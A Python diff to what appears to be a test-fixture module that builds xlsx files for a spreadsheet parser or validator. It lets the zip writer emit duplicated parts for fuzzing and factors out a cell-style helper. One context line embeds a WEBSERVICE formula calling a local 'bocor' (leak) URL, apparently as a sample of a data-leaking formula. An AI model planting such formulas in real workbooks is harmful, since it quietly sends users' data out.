@@ -25,8 +25,9 @@ import struct
 import subprocess
 import sys
 import tempfile
+import warnings
 import zipfile
-from collections.abc import Callable, Mapping
+from collections.abc import Callable, Iterable, Mapping
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -238,12 +239,20 @@ def baca_zip(data: bytes) -> dict[str, bytes]:
         return {i.filename: zf.read(i) for i in zf.infolist()}
 
 
-def tulis_zip(parts: Mapping[str, bytes]) -> bytes:
+def tulis_zip(parts: Mapping[str, bytes] | Iterable[tuple[str, bytes]],
+              metode: int = zipfile.ZIP_DEFLATED) -> bytes:
+    """A zip of the parts, in order, with a fixed date (same parts, same bytes).
+
+    ``parts`` may also be (name, content) pairs, so a name can occur twice (a
+    duplicated part, as the fuzzer makes); ``metode`` is the compression of every
+    entry."""
+    pasangan = parts.items() if isinstance(parts, Mapping) else parts
     buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
-        for nama, isi in parts.items():
+    with zipfile.ZipFile(buf, "w", metode) as zf, warnings.catch_warnings():
+        warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
+        for nama, isi in pasangan:
             zf.writestr(zipfile.ZipInfo(nama, date_time=(1980, 1, 1, 0, 0, 0)), isi,
-                        compress_type=zipfile.ZIP_DEFLATED)
+                        compress_type=metode)
     return buf.getvalue()
 
 
@@ -697,17 +706,23 @@ def rumus_tersimpan() -> bytes:
         '<c r="G3"><f>WEBSERVICE("http://127.0.0.1:9/bocor")</f><v>43</v></c>'))
 
 
-def tanggal_di_angka() -> bytes:
-    """Realisasi typed as 12/5 and turned into a date by Excel (a date-formatted cell)."""
-    parts = baca_zip(bersih())
+def tambah_gaya(parts: dict[str, bytes], num_fmt_id: str = "14") -> int:
+    """Append a cell style (an ``xf`` of cellXfs) with the number format ``num_fmt_id``
+    (14: a date) to ``xl/styles.xml`` in ``parts``; returns its index (a cell's s)."""
     gaya = xml(parts["xl/styles.xml"])
     xfs = gaya.find(M + "cellXfs")
     assert xfs is not None
-    etree.SubElement(xfs, M + "xf", numFmtId="14", fontId="0", fillId="0", borderId="0",
-                     xfId="0", applyNumberFormat="1")
+    etree.SubElement(xfs, M + "xf", numFmtId=num_fmt_id, fontId="0", fillId="0",
+                     borderId="0", xfId="0", applyNumberFormat="1")
     xfs.set("count", str(len(xfs)))
     parts["xl/styles.xml"] = ke_bytes(gaya)
-    indeks = len(xfs) - 1
+    return len(xfs) - 1
+
+
+def tanggal_di_angka() -> bytes:
+    """Realisasi typed as 12/5 and turned into a date by Excel (a date-formatted cell)."""
+    parts = baca_zip(bersih())
+    indeks = tambah_gaya(parts)
     data = tulis_zip(parts)
     return ganti_sel(data, "Evaluasi", sel_mentah(f'<c r="G2" s="{indeks}"><v>43232</v></c>'))
 
